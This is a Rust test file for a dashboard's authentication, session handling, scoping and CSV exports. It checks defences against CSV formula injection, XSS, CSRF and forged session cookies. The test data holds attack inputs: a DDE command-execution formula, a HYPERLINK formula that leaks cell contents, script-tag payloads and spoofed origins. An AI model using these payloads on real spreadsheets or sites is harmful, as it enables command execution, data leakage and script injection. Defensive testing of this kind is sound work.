//! The officers' dashboard: sign-in form, cookie session, scoping, escaping, sign-out, CSV downloads (on both
//! backends, in process). The browser tests are in `console_browser`.

use crate::harness::console::{assert_html_page, login_form, set_cookies, with_cookie, Console};
use crate::harness::{TestApp, MEMBERS_CSV, STAFF_PASSWORD};
use actix_web::cookie::SameSite;
use actix_web::http::header;
use serde_json::json;

async fn sign_in(app: &TestApp, login: &str, password: &str) -> Console {
    Console::sign_in(app, login, password).await
}

/// HK and BD with the four members, and the city admin; returns the admin's bearer token.
async fn setup(app: &TestApp) -> String {
    app.seed_committees(&["HK", "BD"]).await;
    let admin = app.staff_token("city.admin", "admin", None).await;
    app.import(&admin, MEMBERS_CSV).await;
    admin
}

fn position(body: &str, needle: &str) -> usize {
    body.find(needle).unwrap_or_else(|| panic!("{needle} is not on the page"))
}

async fn refresh_works(app: &TestApp, refresh_token: &str) -> bool {
    let answer = app.post_json("/api/v1/auth/refresh", &json!({"refresh_token": refresh_token})).await;
    answer.status == 200
}

/// Members whose names, units and cells are spreadsheet formulas (CSV injection), in committee PX.
const FORMULA_MEMBERS: &str = "card_number,full_name,committee_code,unit,cell,status\n\
200000001,\"=HYPERLINK(\"\"http://x\"\"&A2&B2,\"\"x\"\")\",PX,=1+1,\"@SUM(1+1)*cmd|\"\"/C calc\"\"!A0\",eligible\n\
200000002,＋Trần Văn B,PX,－1,-2+3,eligible\n";

/// The texts of FORMULA_MEMBERS and of the committee name, as imported.
const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"http://x\"&A2&B2,\"x\")",
    "=1+1",
    "@SUM(1+1)*cmd|\"/C calc\"!A0",
    "＋Trần Văn B",
    "－1",
    "-2+3",
    "+cmd",
];

/// What makes a spreadsheet read a cell as a formula when it comes first.
const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// Every cell of a CSV file, read with the csv crate.
fn csv_cells(body: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(body);
    reader
        .records()
        .flat_map(|record| record.expect("a CSV record").iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

both_backends! {
    async fn no_csv_export_carries_a_formula(app: TestApp) {
        let admin = app.staff_token("city.admin", "admin", None).await;
        let created = app.post_as(&admin, "/api/v1/admin/committees", &json!({"code": "PX", "name": "+cmd"})).await;
        assert_eq!(created.status, 201, "{}", created.text());
        app.import(&admin, FORMULA_MEMBERS).await;
        let browser = sign_in(&app, "city.admin", STAFF_PASSWORD).await;

        let slips = app.post_as(&admin, "/api/v1/admin/committees/PX/activation-codes", &json!({})).await;
        let exports = [
            ("activation slips", slips, &FORMULAS[..6]),
            ("not installed (API)", app.get_as(&admin, "/api/v1/coverage/PX/not-installed?format=csv").await, &FORMULAS[..6]),
            ("not installed (dashboard)", app.send(browser.get("/dashboard/committees/PX/not-installed.csv")).await, &FORMULAS[..6]),
            ("coverage.csv (API)", app.get_as(&admin, "/api/v1/coverage.csv").await, &FORMULAS[6..]),
            ("coverage.csv (dashboard)", app.send(browser.get("/dashboard/coverage.csv")).await, &FORMULAS[6..]),
        ];
        for (export, answer, expected) in exports {
            assert!(answer.status.is_success(), "{export}: {} {}", answer.status, answer.text());
            assert!(answer.header("content-type").unwrap().starts_with("text/csv"), "{export}");
            let cells = csv_cells(&answer.body);
            for cell in &cells {
                assert!(!cell.starts_with(FORMULA_STARTS), "{export}: the cell {cell:?} starts a formula");
            }
            for formula in expected {
                let neutralised = format!("'{formula}");
                assert!(cells.contains(&neutralised), "{export}: {neutralised:?} not among {cells:?}");
            }
        }
    }

    async fn without_a_session_every_page_sends_the_browser_to_sign_in(app: TestApp) {
        let admin = setup(&app).await;
        for path in ["/dashboard", "/dashboard/committees/HK", "/dashboard/coverage.csv",
            "/dashboard/committees/HK/not-installed.csv", "/dashboard?sort=coverage&dir=desc"]
        {
            let answer = app.get(path).await;
            assert_eq!(answer.status, 303, "{path}");
            assert_eq!(answer.header("location"), Some("/dashboard/login"), "{path}");
            assert!(set_cookies(&answer).is_empty(), "{path}");
            // A bearer token is the API's way in, not the dashboard's.
            let answer = app.get_as(&admin, path).await;
            assert_eq!(answer.status, 303, "{path} with a bearer token");
        }
        // Stale cookies are cleared on the way to the sign-in page.
        let answer = app.send(with_cookie("/dashboard", "hb_access=forged; hb_refresh=spent".into())).await;
        assert_eq!(answer.status, 303);
        let cleared = set_cookies(&answer);
        assert_eq!(cleared.len(), 3);
        let zero = Some(actix_web::cookie::time::Duration::ZERO);
        assert!(cleared.iter().all(|c| c.value().is_empty() && c.max_age() == zero));

        let form = app.get("/dashboard/login").await;
        let body = assert_html_page(&form, 200);
        for label in ["Đăng nhập", "Tên đăng nhập", "Mật khẩu", r#"name="login""#, r#"name="password""#,
            r#"method="post" action="/dashboard/login""#]
        {
            assert!(body.contains(label), "{label} missing from the form");
        }
    }

    async fn a_wrong_password_shows_the_form_again_then_the_throttle(app: TestApp) {
        setup(&app).await;
        let answer = app.send(login_form("city.admin", "not the password")).await;
        let body = assert_html_page(&answer, 401);
        assert!(body.contains("Tên đăng nhập hoặc mật khẩu không đúng."), "{body}");
        assert!(body.contains(r#"value="city.admin""#), "the login is kept in the form");
        assert!(set_cookies(&answer).is_empty());

        let empty = app.send(login_form("", "")).await;
        assert!(assert_html_page(&empty, 400).contains("Vui lòng nhập tên đăng nhập và mật khẩu."));

        // Throttled like the API: after a few failures the form says how long to wait.
        let mut throttled = None;
        for _ in 0..15 {
            let answer = app.send(login_form("city.admin", "not the password")).await;
            if answer.status == 429 {
                throttled = Some(answer);
                break;
            }
            assert_eq!(answer.status, 401);
        }
        let throttled = throttled.expect("the sign-in form is throttled");
        let seconds: u64 = throttled.header("retry-after").expect("Retry-After").parse().unwrap();
        let body = assert_html_page(&throttled, 429);
        assert!(body.contains(&format!("Vui lòng thử lại sau {seconds} giây.")), "{body}");
        // Even the right password waits.
        assert_eq!(app.send(login_form("city.admin", STAFF_PASSWORD)).await.status, 429);
    }

    async fn the_admin_signs_in_and_sees_every_committee_sorted_and_drilled_down(app: TestApp) {
        setup(&app).await;
        let answer = app.send(login_form("city.admin", STAFF_PASSWORD)).await;
        assert_eq!(answer.status, 303, "{}", answer.text());
        let cookies = set_cookies(&answer);
        assert_eq!(cookies.iter().map(|c| c.name()).collect::<Vec<_>>(), ["hb_access", "hb_refresh", "hb_active"]);
        for cookie in &cookies {
            assert_eq!(cookie.http_only(), Some(true), "{cookie}");
            assert_eq!(cookie.same_site(), Some(SameSite::Strict), "{cookie}");
            assert_eq!(cookie.path(), Some("/dashboard"), "{cookie}");
            assert_eq!(cookie.secure(), None, "not Secure over plain http: {cookie}");
        }
        let raw: Vec<&str> = answer.headers.get_all(header::SET_COOKIE).map(|v| v.to_str().unwrap()).collect();
        assert!(raw.iter().all(|c| c.contains("HttpOnly") && c.contains("SameSite=Strict")), "{raw:?}");
        let browser = sign_in(&app, "city.admin", STAFF_PASSWORD).await;

        let page = app.send(browser.get("/dashboard")).await;
        let body = assert_html_page(&page, 200);
        let renewed: Vec<_> = set_cookies(&page).iter().map(|c| c.name().to_owned()).collect();
        assert_eq!(renewed, ["hb_active"], "a valid access cookie needs no renewal, only the activity stamp");
        for needle in ["Toàn thành phố", "418.000", "Đảng bộ HK", "Đảng bộ BD", r#"href="/dashboard/committees/HK""#,
            r#"href="/dashboard/committees/BD""#, r#"href="/dashboard/coverage.csv""#,
            r#"href="/dashboard/committees/HK/not-installed.csv""#, "/api/v1/coverage.csv", "Đăng xuất",
            r#"action="/dashboard/logout""#, "Chưa đủ dữ liệu để vẽ xu hướng"]
        {
            assert!(body.contains(needle), "{needle} missing from the dashboard");
        }
        // Sorting by links, on the server.
        let by_name_desc = assert_html_page(&app.send(browser.get("/dashboard?sort=name&dir=desc")).await, 200);
        assert!(position(&by_name_desc, ">Đảng bộ HK<") < position(&by_name_desc, ">Đảng bộ BD<"));
        let by_name = assert_html_page(&app.send(browser.get("/dashboard?sort=name")).await, 200);
        assert!(position(&by_name, ">Đảng bộ BD<") < position(&by_name, ">Đảng bộ HK<"));
        // HK has 2 eligible members, BD 1.
        let by_eligible = assert_html_page(&app.send(browser.get("/dashboard?sort=eligible&dir=desc")).await, 200);
        assert!(position(&by_eligible, ">Đảng bộ HK<") < position(&by_eligible, ">Đảng bộ BD<"));
        assert!(by_eligible.contains(r#"href="/dashboard?sort=eligible&amp;dir=asc""#), "the column toggles");
        let by_eligible = assert_html_page(&app.send(browser.get("/dashboard?sort=eligible&dir=asc")).await, 200);
        assert!(position(&by_eligible, ">Đảng bộ BD<") < position(&by_eligible, ">Đảng bộ HK<"));
        for query in ["sort=coverage&dir=desc", "sort=installed", "sort=bogus&dir=sideways"] {
            assert_html_page(&app.send(browser.get(&format!("/dashboard?{query}"))).await, 200);
        }

        let drill = assert_html_page(&app.send(browser.get("/dashboard/committees/HK")).await, 200);
        for needle in ["Đảng bộ HK", "Phường Hàng Bạc", "Chi bộ 1", "Chi bộ 2", "Đơn vị / Chi bộ"] {
            assert!(drill.contains(needle), "{needle} missing from the drill-down");
        }
        let unknown = assert_html_page(&app.send(browser.get("/dashboard/committees/XX")).await, 404);
        assert!(unknown.contains("Không tìm thấy"), "{unknown}");

        // Over TLS (as a proxy reports it) the cookies are Secure.
        let tls = login_form("city.admin", STAFF_PASSWORD).insert_header(("x-forwarded-proto", "https"));
        let tls = app.send(tls).await;
        assert_eq!(tls.status, 303);
        assert!(set_cookies(&tls).iter().all(|c| c.secure() == Some(true)));
    }

    async fn the_trend_is_an_svg_line_once_there_are_two_days(app: TestApp) {
        setup(&app).await;
        let now = handbook::time::now();
        app.db()
            .run(move |conn| {
                handbook::coverage::report::snapshot(conn, now - chrono::Duration::days(3))?;
                handbook::coverage::report::snapshot(conn, now)?;
                Ok(())
            })
            .await
            .unwrap();
        let browser = sign_in(&app, "city.admin", STAFF_PASSWORD).await;
        let body = assert_html_page(&app.send(browser.get("/dashboard")).await, 200);
        assert!(body.contains("<svg") && body.contains("<polyline"), "{body}");
        assert!(!body.contains("Chưa đủ dữ liệu để vẽ xu hướng"));
        let drill = assert_html_page(&app.send(browser.get("/dashboard/committees/BD")).await, 200);
        assert!(drill.contains("<polyline"));
    }

    async fn an_officer_sees_only_its_own_committee(app: TestApp) {
        setup(&app).await;
        app.staff_token("officer.hk", "officer", Some("HK")).await;
        let browser = sign_in(&app, "officer.hk", STAFF_PASSWORD).await;
        let body = assert_html_page(&app.send(browser.get("/dashboard")).await, 200);
        assert!(body.contains("Đảng bộ HK") && body.contains(r#"href="/dashboard/committees/HK""#));
        assert!(!body.contains("Đảng bộ BD") && !body.contains("/dashboard/committees/BD"), "{body}");
        assert!(!body.contains("Toàn thành phố"));

        assert_html_page(&app.send(browser.get("/dashboard/committees/HK")).await, 200);
        let other = assert_html_page(&app.send(browser.get("/dashboard/committees/BD")).await, 404);
        assert!(other.contains("Không tìm thấy") && !other.contains("Phường Kim Mã"), "{other}");
        let other_csv = app.send(browser.get("/dashboard/committees/BD/not-installed.csv")).await;
        assert_eq!(other_csv.status, 404);
        assert!(!String::from_utf8_lossy(&other_csv.body).contains("100000004"));

        let csv = app.send(browser.get("/dashboard/coverage.csv")).await;
        assert_eq!(csv.status, 200);
        let text = csv.text();
        assert!(text.contains("HK,") && !text.contains("BD,"), "{text}");
    }

    async fn names_are_escaped(app: TestApp) {
        setup(&app).await;
        app.db()
            .run(|conn| {
                handbook::org::store::insert_committee(conn, "XSS", "<script>alert('x')</script> & \"Co\"")?;
                Ok(())
            })
            .await
            .unwrap();
        let browser = sign_in(&app, "city.admin", STAFF_PASSWORD).await;
        for path in ["/dashboard", "/dashboard/committees/XSS"] {
            let body = assert_html_page(&app.send(browser.get(path)).await, 200);
            assert!(!body.contains("<script>"), "{path}: {body}");
            assert!(body.contains("&lt;script&gt;alert('x')&lt;/script&gt; &amp; &quot;Co&quot;"), "{path}: {body}");
        }
        let answer = app.send(login_form("\"><script>alert(1)</script>", "whatever")).await;
        let body = assert_html_page(&answer, 401);
        assert!(!body.contains("<script>") && body.contains("&quot;&gt;&lt;script&gt;"), "{body}");
    }

    async fn members_get_no_dashboard_session(app: TestApp) {
        let admin = setup(&app).await;
        let tokens = app.activate_member(&admin, "100000001", "member password").await;
        let answer = app.send(login_form("100000001", "member password")).await;
        let body = assert_html_page(&answer, 403);
        assert!(body.contains("Trang này dành cho cán bộ quản lý"), "{body}");
        assert!(set_cookies(&answer).is_empty(), "no session for a member");
        // A member's own token put in the cookie by hand opens nothing either.
        let access = tokens["access_token"].as_str().unwrap();
        let answer = app
            .send(with_cookie("/dashboard", format!("hb_access={access}")))
            .await;
        assert_html_page(&answer, 403);
    }

    async fn an_expired_access_cookie_is_renewed_with_the_refresh_cookie(app: TestApp) {
        setup(&app).await;
        let browser = sign_in(&app, "city.admin", STAFF_PASSWORD).await;
        let expired = handbook::auth::tokens::issue(
            &app.state.auth.keys,
            "staff:1",
            handbook::auth::Role::Admin,
            None,
            None,
            chrono::Utc::now().timestamp() - 3600,
        );
        let stale = Console { access: expired, ..browser.clone() };
        let page = app.send(stale.get("/dashboard")).await;
        assert_html_page(&page, 200);
        let renewed = set_cookies(&page);
        let names: Vec<&str> = renewed.iter().map(|c| c.name()).collect();
        assert_eq!(names, ["hb_access", "hb_refresh", "hb_active"], "both tokens rotate, the activity is stamped");
        assert!(renewed.iter().all(|c| c.http_only() == Some(true) && c.same_site() == Some(SameSite::Strict)));
        let fresh = Console {
            access: renewed[0].value().to_owned(),
            refresh: renewed[1].value().to_owned(),
            active: renewed[2].value().to_owned(),
            ..browser.clone()
        };
        assert_ne!(fresh.refresh, browser.refresh);
        assert_html_page(&app.send(fresh.get("/dashboard")).await, 200);
        // No access cookie at all, a working refresh cookie: renewed too.
        let page = app
            .send(with_cookie("/dashboard", format!("hb_refresh={}; hb_active={}", fresh.refresh, fresh.active)))
            .await;
        assert_html_page(&page, 200);
        assert_eq!(set_cookies(&page).len(), 3);
    }

    async fn a_session_left_idle_ends_and_a_forged_stamp_does_not_extend_it(app: TestApp) {
        setup(&app).await;
        let browser = sign_in(&app, "city.admin", STAFF_PASSWORD).await;
        let (at, _) = browser.active.split_once('.').unwrap();
        let family = handbook::auth::tokens::verify(&app.state.auth.keys, &browser.access).unwrap().sid.unwrap();
        // The stamp as the service writes it, `<unix seconds>.<HMAC-SHA256 of the session and the time>`.
        let stamp = |seconds: i64| {
            use hmac::Mac;
            let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(app.state.auth.keys.cursor_key()).unwrap();
            mac.update(b"handbook console active");
            for part in [family.as_str(), &seconds.to_string()] {
                mac.update(b"\0");
                mac.update(part.as_bytes());
            }
            let mac = base64::Engine::encode(&base64::engine::general_purpose::URL_SAFE_NO_PAD, mac.finalize().into_bytes());
            format!("{seconds}.{mac}")
        };
        let now: i64 = at.parse().unwrap();
        assert_eq!(stamp(now), browser.active, "the test writes stamps as the service does");
        // 29 minutes idle: still signed in. A stamp moved forward by hand, or missing: signed out.
        let recent = Console { active: stamp(now - 29 * 60), ..browser.clone() };
        assert_html_page(&app.send(recent.get("/dashboard")).await, 200);
        for forged in [format!("{}.{}", now + 3600, browser.active.split_once('.').unwrap().1), String::new()] {
            let other = sign_in(&app, "city.admin", STAFF_PASSWORD).await;
            let answer = app.send(Console { active: forged.clone(), ..other.clone() }.get("/dashboard")).await;
            assert_eq!(answer.status, 303, "{forged}");
            assert_eq!(answer.header("location"), Some("/dashboard/login?idle=1"));
            assert!(!refresh_works(&app, &other.refresh).await, "the idle session is ended, not only forgotten");
        }
        let idle = Console { active: stamp(now - 31 * 60), ..browser.clone() };
        let answer = app.send(idle.get("/dashboard/committees/HK")).await;
        assert_eq!(answer.status, 303);
        assert_eq!(answer.header("location"), Some("/dashboard/login?idle=1"));
        assert!(set_cookies(&answer).iter().all(|c| c.value().is_empty()), "the cookies are cleared");
        assert!(!refresh_works(&app, &browser.refresh).await);
        app.get_as(&browser.access, "/api/v1/me").await.problem(401);
        let form = assert_html_page(&app.get("/dashboard/login?idle=1").await, 200);
        assert!(form.contains("Phiên làm việc đã kết thúc vì lâu không thao tác"), "{form}");
    }

    async fn sign_out_checks_the_origin_and_revokes_the_refresh_family(app: TestApp) {
        setup(&app).await;
        let browser = sign_in(&app, "city.admin", STAFF_PASSWORD).await;
        let logout = |origin: Option<(&'static str, &'static str)>| {
            let mut request = browser.post_form("/dashboard/logout", &[]).insert_header((header::HOST, "sotay.test"));
            if let Some(pair) = origin {
                request = request.insert_header(pair);
            }
            request
        };
        for foreign in [("origin", "http://evil.test"), ("origin", "null"), ("referer", "http://evil.test/dashboard"),
            ("origin", "http://sotay.test.evil.test")]
        {
            let answer = app.send(logout(Some(foreign))).await;
            assert_html_page(&answer, 403);
            assert!(set_cookies(&answer).is_empty(), "{foreign:?}");
        }
        assert_html_page(&app.send(browser.get("/dashboard")).await, 200);
        // From this origin but without the session's CSRF token (a form of another session, or none): refused.
        for token in ["", "forged"] {
            let stale = Console { csrf: token.to_owned(), ..browser.clone() };
            let answer = app.send(stale.post_form("/dashboard/logout", &[])).await;
            assert!(assert_html_page(&answer, 403).contains("Vui lòng tải lại trang"), "{token:?}");
                    }
        assert_html_page(&app.send(browser.get("/dashboard")).await, 200);

        let answer = app.send(logout(Some(("origin", "http://sotay.test")))).await;
        assert_eq!(answer.status, 303, "{}", answer.text());
        assert_eq!(answer.header("location"), Some("/dashboard/login"));
        let cleared = set_cookies(&answer);
        assert_eq!(cleared.len(), 3);
        assert!(cleared.iter().all(|c| c.value().is_empty() && c.path() == Some("/dashboard")));
        assert!(!refresh_works(&app, &browser.refresh).await, "the refresh family is revoked");
        let again = app.send(with_cookie("/dashboard", format!("hb_refresh={}", browser.refresh))).await;
        assert_eq!(again.status, 303);

        // Without Origin or Referer (SameSite=Strict keeps cross-site posts cookie-less anyway) it works too.
        let second = sign_in(&app, "city.admin", STAFF_PASSWORD).await;
        let answer = app.send(second.post_form("/dashboard/logout", &[])).await;
        assert_eq!(answer.status, 303);
        assert!(!refresh_works(&app, &second.refresh).await);
    }

    async fn the_csv_downloads_work_with_the_cookie_and_match_the_api(app: TestApp) {
        let admin = setup(&app).await;
        let browser = sign_in(&app, "city.admin", STAFF_PASSWORD).await;
        let csv = app.send(browser.get("/dashboard/coverage.csv")).await;
        assert_eq!(csv.status, 200, "{}", csv.text());
        assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8"));
        assert_eq!(csv.header("content-disposition"), Some("attachment; filename=\"coverage.csv\""));
        assert_eq!(csv.header("cache-control"), Some("no-store"));
        let api = app.get_as(&admin, "/api/v1/coverage.csv").await;
        assert_eq!(csv.text(), api.text());
        assert!(csv.text().starts_with("code,name,eligible,activated,installed,active_30d,up_to_date,coverage\n"));

        let list = app.send(browser.get("/dashboard/committees/HK/not-installed.csv")).await;
        assert_eq!(list.status, 200);
        assert_eq!(list.header("content-disposition"), Some("attachment; filename=\"chua-cai-dat-HK.csv\""));
        let api = app.get_as(&admin, "/api/v1/coverage/HK/not-installed?format=csv").await;
        assert_eq!(list.text(), api.text());
        assert!(list.text().contains("100000001,Nguyễn Văn A,Phường Hàng Bạc,Chi bộ 1,no"), "{}", list.text());
        assert_eq!(app.send(browser.get("/dashboard/committees/XX/not-installed.csv")).await.status, 404);
    }
}
